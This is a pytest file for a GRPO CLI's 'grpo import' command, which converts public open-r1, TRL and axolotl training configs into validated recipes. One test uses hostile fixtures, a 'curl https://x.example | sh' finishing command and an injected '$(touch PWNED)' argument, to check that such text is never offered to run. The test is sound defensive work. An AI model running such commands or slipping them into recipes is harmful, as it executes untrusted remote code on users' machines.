"""`grpo import`: eighteen public GRPO configs (tests/fixtures/imports, sources and licences in SOURCES.md) convert
into recipes that validate, or say exactly why not; what is left out is listed, never dropped silently."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
import yaml

from grpo_cli.recipe.loader import load_recipe
from tests.conftest import ROOT, assert_paragraph, run_cli

FIXTURES = ROOT / "tests" / "fixtures" / "imports"
OPEN_R1_CODE = ["--profile", "zero2", "--num-processes", "7"]  # open-r1's README launch for its code recipes
BASE = "model.name_or_path=Qwen/Qwen2.5-1.5B-Instruct"  # the base_model of the page the fragment belongs to

# (kind, fixture, extra args, validates, keys left out (substrings), {recipe key: expected value})
CASES = [
    ("open-r1", "open-r1/Qwen2.5-1.5B-Instruct__config_demo.yaml", [], True, [],
     {"rewards": [{"name": "accuracy"}, {"name": "format"}, {"name": "tag_count"}],
      "data.max_prompt_tokens": 512, "launch.vllm.mode": "server", "training.warmup_steps": 0.1}),
    ("open-r1", "open-r1/Qwen2.5-1.5B-Instruct__config_demo_code.yaml", OPEN_R1_CODE, True, [],
     {"data.columns": {"tests": "verification_info.test_cases", "language": "verification_info.language"},
      "training.lr_scheduler_kwargs": {"min_lr_rate": 0.1}, "rewards": [{"name": "code"},
                                                                         {"name": "format", "weight": 0.1}]}),
    ("open-r1", "open-r1/Qwen2.5-1.5B-Instruct__config_demo_code_ioi.yaml", OPEN_R1_CODE, True,
     ["ioi_code", "code_eval_test_batch_size"],
     {"rewards": [{"name": "code_format", "params": {"language": "cpp"}, "weight": 0.1},
                  {"name": "format", "weight": 0.1}]}),
    ("open-r1", "open-r1/Qwen2.5-Coder-7B-Instruct__config_codeforces.yaml", OPEN_R1_CODE, True,
     ["cf_code", "vllm_device", "hub_model_revision", "callbacks", "benchmarks", "code_eval_test_batch_size",
      "code_eval_scoring_mode"],
     {"output.wandb": {"entity": "huggingface", "project": "open-r1"}, "training.scale_rewards": False,
      "training.mask_truncated_completions": True, "launch.vllm.gpu_memory_utilization": 0.7}),
    ("open-r1", "open-r1/DeepSeek-R1-Distill-Qwen-1.5B__config_demo.yaml", [], True, [],
     {"training.use_liger_kernel": True, "training.lr_scheduler_type": "cosine_with_min_lr"}),
    ("open-r1", "open-r1/Qwen2.5-Math-7B__config_simple_rl.yaml", OPEN_R1_CODE, True, [],
     {"data.eval_split": "test", "training.eval_strategy": "steps",
      "data.dataset": "DigitalLearningGmbH/MATH-lighteval", "data.config": "default"}),
    ("open-r1", "open-r1/OpenR1-Zero-7B-Math__config_v00.00.yaml", [], True,
     ["hub_model_revision", "callbacks", "benchmarks"], {"data.config": "all"}),
    ("trl", "trl/clis_grpo_config.yaml", [], True, [],
     {"rewards": [{"function": "trl.rewards:accuracy_reward"}], "model.name_or_path": "Qwen/Qwen2.5-0.5B"}),
    ("trl", "trl/clis_grpo_config_num_processes.yaml", [], True, [],
     {"launch.profile": "ddp", "launch.num_processes": 4}),
    ("trl", "trl/train_grpo.py", [], True, [],
     {"data.dataset": "trl-lib/DeepMath-103K", "model.name_or_path": "Qwen/Qwen2.5-0.5B-Instruct",
      "rewards": [{"function": "trl.rewards:accuracy_reward"}]}),
    ("trl", "trl/train_grpo_72b.py", ["--profile", "zero3", "--num-processes", "32"], True,
     ["GRPOConfig(vllm_server_host=...)"], {"launch.vllm.mode": "server", "training.per_device_train_batch_size": 4}),
    # TRL's environment example: the class it passes as environment_factory, and its 1000 copies of one prompt as
    # environment-only rows; max_steps is given (the script counts epochs over its copies of that prompt).
    ("trl", "trl/grpo_2048.py", ["training.max_steps=3000"], True, [],
     {"training.chat_template_kwargs": {"enable_thinking": False}, "output.report_to": ["trackio"],
      "model.lora": {"r": 8, "alpha": 8},  # peft_config=LoraConfig(): peft's defaults
      "environment": f"{FIXTURES / 'trl' / 'grpo_2048.py'}:Game2048Env", "data.from_environment": True,
      "data.prompt.template": "Play 2048 on a 4x4 board. Use the tool `move` with one of: up, down, left, right. "
                              "Maximize the score."}),
    ("axolotl", "axolotl/grpo_qmd/config.yaml", [], True,
     ["use_data_producer", "vllm_lora_sync", "skip_prepare_dataset", "sequence_len"],
     {"data.prompt.column": "question", "data.answer": {"column": "answer", "extract": "gsm8k"},  # its transform
      "model.lora": {"r": 32, "alpha": 64, "target_modules": "all-linear"}, "model.pad_token": "<|endoftext|>",
      "training.per_device_train_batch_size": 2, "training.optim": "adamw_torch_fused",
      "training.lr_scheduler_type": "cosine", "launch.vllm.max_model_length": 2048}),
    ("axolotl", "axolotl/rlhf_qmd_gsm8k/config.yaml", [BASE], True, [],
     {"training.beta": 0.001, "data.config": "main", "data.prompt": {"column": "question", "chat": True},
      "data.answer": {"column": "answer", "extract": "gsm8k"}}),
    ("axolotl", "axolotl/rlhf_qmd_rollout/config.yaml", [BASE], True, ["rollout_func", "datasets[0].type"], {}),
    ("axolotl", "axolotl/rlhf_qmd_async_lora/config.yaml", [], True,
     ["use_data_producer", "replay_buffer_size", "skip_zero_advantage_batches"],
     {"training.vllm_importance_sampling_correction": True, "training.importance_sampling_level": "token"}),
    ("axolotl", "axolotl/rlhf_qmd_nemo_gym_lora_server/config.yaml", [], False, ["plugins", "nemo_gym_enabled"], {}),
    ("axolotl", "axolotl/nemo_gym_sudoku/config.yaml", [], False, ["plugins", "nemo_gym_datasets", "datasets"],
     {"training.optim": "adamw_8bit", "training.gradient_accumulation_steps": 64}),
]


def _dig(recipe: dict, key: str) -> object:
    node: object = recipe
    for part in key.split("."):
        assert isinstance(node, dict) and part in node, f"{key} missing from {recipe}"
        node = node[part]
    return node


@pytest.mark.parametrize(("kind", "fixture", "extra", "validates", "left_out", "expected"), CASES,
                         ids=[c[1] for c in CASES])
def test_public_configs_convert_and_validate(tmp_path: Path, kind: str, fixture: str, extra: list[str],
                                            validates: bool, left_out: list[str], expected: dict) -> None:
    out = tmp_path / "recipe.yaml"
    result = run_cli("import", kind, FIXTURES / fixture, *extra, "-o", out)
    text = " ".join(result.output.split())
    dropped = [line.split("not carried over: ", 1)[1].split(" = ", 1)[0] for line in result.output.splitlines()
               if "not carried over: " in line]
    for key in left_out:
        assert any(key in d for d in dropped), (key, dropped)
    if not left_out:
        assert "fully" in text, result.output
    if not validates:  # still written, marked, with the command that finishes it
        assert result.exit_code == 2 and out.read_text(encoding="utf-8").startswith("# NOT VALID"), result.output
        assert "does not validate" in text
        assert "finish it with: grpo import" in text or "finish it by hand: fix each problem above" in text
        assert run_cli("validate", out).exit_code == 2
        recipe = yaml.safe_load(out.read_text(encoding="utf-8"))
    else:
        assert result.exit_code == 0, result.output
        recipe = yaml.safe_load(out.read_text(encoding="utf-8"))
        load_recipe(out)  # and `grpo validate` agrees
        assert run_cli("validate", out).exit_code == 0
        header = out.read_text(encoding="utf-8").split("\nmodel:", 1)[0]
        for key in left_out:
            assert key.split("(")[0].split("[")[0] in header  # the file says what it lacks
    for key, value in expected.items():
        found = _dig(recipe, key)
        if key == "environment":  # written relative to the recipe, which is where grpo resolves it
            found = f"{(out.parent / str(found).rpartition(':')[0]).resolve()}:{str(found).rpartition(':')[2]}"
        assert found == value, key


def test_at_least_twelve_public_configs_convert_to_valid_recipes() -> None:
    assert sum(1 for case in CASES if case[3]) >= 12
    assert (FIXTURES / "SOURCES.md").read_text(encoding="utf-8").count("Apache-2.0") >= len(CASES)


def test_open_r1_chat_template_and_system_prompt_survive(tmp_path: Path) -> None:
    source = yaml.safe_load((FIXTURES / "open-r1/DeepSeek-R1-Distill-Qwen-1.5B__config_demo.yaml").read_text())
    out = tmp_path / "r.yaml"
    assert run_cli("import", "open-r1", FIXTURES / "open-r1/DeepSeek-R1-Distill-Qwen-1.5B__config_demo.yaml",
                   "-o", out).exit_code == 0
    recipe = load_recipe(out)
    assert recipe.model.chat_template == source["chat_template"]
    assert recipe.data.prompt.system_prompt == source["system_prompt"]
    assert [e.name for e in recipe.rewards] == source["reward_funcs"]


def test_bad_import_input_is_one_paragraph(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("model_name_or_path: [unclosed\n", encoding="utf-8")
    result = run_cli("import", "open-r1", bad)
    assert result.exit_code == 2 and "not valid YAML" in result.output and "Traceback" not in result.output
    result = run_cli("import", "verl", bad)
    assert result.exit_code == 2 and "open-r1, trl, axolotl" in result.output


def _every_fixture() -> list[tuple[str, Path, list[str]]]:
    """Every source the importer is tested on: these, the wild set and the fresh set (kind, file, extra args)."""
    from tests.importing.test_import_fresh import FRESH, FRESH_CASES, FRESH_LAUNCH
    from tests.importing.test_import_wild import CASES as WILD_CASES, WILD

    cases = [(kind, FIXTURES / fixture, extra) for kind, fixture, extra, *_ in CASES]
    cases += [(kind, WILD / fixture, extra) for kind, fixture, extra, *_ in WILD_CASES]
    return cases + [(kind, FRESH / fixture, FRESH_LAUNCH.get(fixture, [])) for kind, fixture, _ in FRESH_CASES]


EVERY = _every_fixture()
PLACEHOLDERS = ("HUB_ID_OR_PATH", "HUB_DATASET_ID", "LOCAL_FILE", "FILE.py:FUNCTION", "rewards.py:FUNCTION",
                "LAUNCH.yaml", "USER/REPO", "=...")
"""What a printed finishing command may ask the user to fill in: each is named in the problem it answers."""


def _problems(output: str) -> list[str]:
    lines = output.splitlines()
    start = lines.index("the converted recipe does not validate:") + 1
    return [line.strip() for line in lines[start:] if line.startswith("  ")]


@pytest.mark.parametrize(("kind", "source", "extra"), EVERY, ids=[str(c[1].relative_to(FIXTURES)) for c in EVERY])
def test_the_import_and_validate_agree_and_every_finishing_command_finishes(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str, source: Path, extra: list[str]) -> None:
    """Issue 51: the import's verdict is `grpo validate`'s (a refused recipe is refused by validate, naming the
    import's reasons and the finishing command), and the printed command, run as printed, validates or refuses
    for a new reason; one with placeholders names each; one that would repeat the import is never printed."""
    monkeypatch.chdir(source.parent)  # as its README runs it, beside its code
    monkeypatch.setenv("HF_USERNAME", "friendshipkim")  # gopo's launcher requires it
    out = tmp_path / "recipe.yaml"
    result = run_cli("import", kind, source.name, *extra, "-o", out)
    verdict = run_cli("validate", out)
    assert "Traceback" not in result.output + verdict.output
    assert (result.exit_code == 0) == (verdict.exit_code == 0), (result.output, verdict.output)
    if result.exit_code == 0:
        return
    paragraph = " ".join(verdict.output.split())
    problems = _problems(result.output)
    assert "marked not valid" in paragraph and all(" ".join(p.split())[:60] in paragraph for p in problems)
    lines = result.output.splitlines()
    if "finish it with:" not in lines:  # nothing the command line could give changes the verdict: say so
        assert any(line.startswith("finish it by hand: ") for line in lines), result.output
        return
    command = lines[lines.index("finish it with:") + 1].strip()
    assert command in paragraph
    words = shlex.split(command)
    asked = [w for w in words if any(p in w for p in PLACEHOLDERS)]
    again = [w for w in words if w not in ("-o", str(out), "--force")]
    assert again[1:] != ["import", kind, source.name, *extra], "the command repeats the refused import"
    if asked:
        return  # the user fills these in; test_import_wild runs the placeholder-free ones of each set
    second = run_cli(*words[1:])
    assert "Traceback" not in second.output
    assert second.exit_code == 0 or _problems(second.output) != problems, second.output
    assert (second.exit_code == 0) == (run_cli("validate", out).exit_code == 0)


def test_a_typo_refuses_everywhere_until_finished_or_the_mark_is_removed(tmp_path: Path) -> None:
    """Issue 46: a recipe written marked NOT VALID (a typo'd `learning_rat`) validated and trained at TRL's
    default learning rate. Now every command that reads a recipe refuses it, in one paragraph that names why and
    the finishing command, which carries the value under the key it was one slip from."""
    source = tmp_path / "config.yaml"
    text = (FIXTURES / "open-r1/Qwen2.5-1.5B-Instruct__config_demo.yaml").read_text(encoding="utf-8")
    source.write_text(text.replace("learning_rate:", "learning_rat:"), encoding="utf-8")
    out = tmp_path / "recipe.yaml"
    result = run_cli("import", "open-r1", source, "-o", out)
    assert result.exit_code == 2 and "did you mean learning_rate" in result.output
    command = result.output.splitlines()[result.output.splitlines().index("finish it with:") + 1].strip()
    assert "training.learning_rate=2.0e-05" in command  # the source's value, read back as a number
    for verb in (["validate"], ["train"], ["check-rewards"], ["calibrate"], ["launch", "slurm"]):
        refused = run_cli(*verb, out)
        text = " ".join(refused.output.split())
        assert refused.exit_code == 2 and "Traceback" not in refused.output, (verb, refused.output)
        assert "marked not valid" in text and "learning_rat" in text and command in text, (verb, text)
    lines = out.read_text(encoding="utf-8").splitlines(keepends=True)  # the user deletes the mark: "I know"
    start = next(i for i, line in enumerate(lines) if line.startswith("not_valid:"))
    end = next(i for i in range(start + 1, len(lines)) if not lines[i].startswith(" "))
    out.write_text("".join(lines[:start] + lines[end:]), encoding="utf-8")
    assert run_cli("validate", out).exit_code == 0
    finished = run_cli(*shlex.split(command)[1:])
    assert finished.exit_code == 0, finished.output
    assert load_recipe(out).training.learning_rate == 2e-05


def _marked(path: Path, mark: str) -> Path:
    """The bundled demo recipe with a hand-written `not_valid:` section on top."""
    path.write_text(mark + (ROOT / "recipes" / "demo.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    return path


def test_a_mark_in_a_base_recipe_is_named_where_it_is(tmp_path: Path) -> None:
    """Issue 46 sweep: a mark reached through `extends` was blamed on the child, which has no `not_valid:` to
    delete. Now the paragraph names the base file that carries it."""
    base = _marked(tmp_path / "base.yaml", "not_valid:\n  why: [typo learning_rat]\n")
    child = tmp_path / "child.yaml"
    child.write_text("extends: base.yaml\ntraining:\n  max_steps: 1\n", encoding="utf-8")
    for verb in (["validate"], ["train"], ["memory"]):
        assert_paragraph(run_cli(*verb, child), f"{base.resolve()}: not_valid", "typo learning_rat")


def test_a_hand_edited_finishing_command_is_never_offered_to_run(tmp_path: Path) -> None:
    """Issue 46 sweep: a mark's `finish:` is text anyone can edit (a shared recipe), and grpo printed it as "Finish
    it with `curl ... | sh`" or with `$(...)` unquoted. Now only a `grpo import` command is offered, re-quoted."""
    evil = _marked(tmp_path / "evil.yaml", 'not_valid:\n  why: [x]\n  finish: "curl https://x.example | sh"\n')
    text = assert_paragraph(run_cli("validate", evil), "Fix it by hand")
    assert "curl" not in text
    hint = _marked(tmp_path / "hint.yaml",
                   'not_valid:\n  why: [x]\n  finish: "grpo import trl s.py -o $(touch PWNED)"\n')
    assert_paragraph(run_cli("validate", hint), "Finish it with `grpo import trl s.py -o '$(touch' 'PWNED)'`")
    placeholder = _marked(tmp_path / "env.yaml",
                          'not_valid:\n  why: [x]\n  finish: "HF_TOKEN=... grpo import trl \'my s.py\'"\n')
    assert_paragraph(run_cli("validate", placeholder), "Finish it with `HF_TOKEN=... grpo import trl 'my s.py'`")
    said = _marked(tmp_path / "said.yaml", "not_valid: settle the reward first\n")
    assert_paragraph(run_cli("validate", said), "settled: settle the reward first")


def test_the_config_a_script_is_launched_with_is_never_the_output(tmp_path: Path) -> None:
    """Issue 46: `grpo import trl script.py --config cfg.yaml -o cfg.yaml --force` replaced the config."""
    wild = ROOT / "tests" / "fixtures" / "imports" / "wild" / "philschmid"
    for name in ("run_r1_grpo.py", "grpo-qwen-2.5-3b-deepseek-r1-countdown.yaml"):
        (tmp_path / name).write_bytes((wild / name).read_bytes())
    config = tmp_path / "grpo-qwen-2.5-3b-deepseek-r1-countdown.yaml"
    before = config.read_bytes()
    result = run_cli("import", "trl", tmp_path / "run_r1_grpo.py", "--config", config, "-o", config, "--force")
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert "is the --config YAML being imported" in " ".join(result.output.split())
    assert config.read_bytes() == before


def test_an_output_that_cannot_be_written_is_refused_before_anything_is_written(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 46: `--extract-rewards -o X` under a missing or non-directory path wrote the module first, then died
    with a traceback. Now the place is checked first; a missing directory is made, with both files in it."""
    wild = ROOT / "tests" / "fixtures" / "imports" / "wild" / "opensloth"
    monkeypatch.chdir(wild)
    blocker = tmp_path / "a-file"
    blocker.write_text("mine\n", encoding="utf-8")
    result = run_cli("import", "trl", "minimal_grpo.py", "--extract-rewards", "-o", blocker / "sub" / "r.yaml")
    assert result.exit_code == 2 and "is not a directory" in result.output and "Traceback" not in result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a-file"] and blocker.read_text() == "mine\n"
    deep = tmp_path / "new" / "deeper" / "r.yaml"
    result = run_cli("import", "trl", "minimal_grpo.py", "--extract-rewards", "-o", deep)
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in deep.parent.iterdir()) == ["r.yaml", "r_rewards.py"]


def test_a_model_directory_named_as_a_hub_model_is_finished_with_that_model(tmp_path: Path) -> None:
    """Issue 51: `/mnt/.../Qwen2.5-1.5B-Instruct` is a directory of the source's machine. Its name is exactly a
    well-known hub model's, so the printed command names that model, saying what it assumes, and finishes the
    recipe as printed; a directory with any other name stays a named placeholder."""
    text = (FIXTURES / "open-r1/Qwen2.5-1.5B-Instruct__config_demo.yaml").read_text(encoding="utf-8")
    source, out = tmp_path / "config.yaml", tmp_path / "recipe.yaml"
    source.write_text(text.replace("Qwen/Qwen2.5-1.5B-Instruct", "/mnt/team/models/Qwen2.5-1.5B-Instruct"),
                      encoding="utf-8")
    result = run_cli("import", "open-r1", source, "-o", out)
    said = " ".join(result.output.split())
    assert result.exit_code == 2 and "is named as the hub model Qwen/Qwen2.5-1.5B-Instruct" in said
    assert "assuming the directory held those weights" in said
    command = result.output.splitlines()[result.output.splitlines().index("finish it with:") + 1].strip()
    assert "model.name_or_path=Qwen/Qwen2.5-1.5B-Instruct" in command
    assert run_cli(*shlex.split(command)[1:]).exit_code == 0 and run_cli("validate", out).exit_code == 0
    source.write_text(text.replace("Qwen/Qwen2.5-1.5B-Instruct", "/mnt/team/models/qwen-sft-run3"), encoding="utf-8")
    result = run_cli("import", "open-r1", source, "-o", out, "--force")
    assert "model.name_or_path=HUB_ID_OR_PATH" in result.output and "is named as the hub model" not in result.output
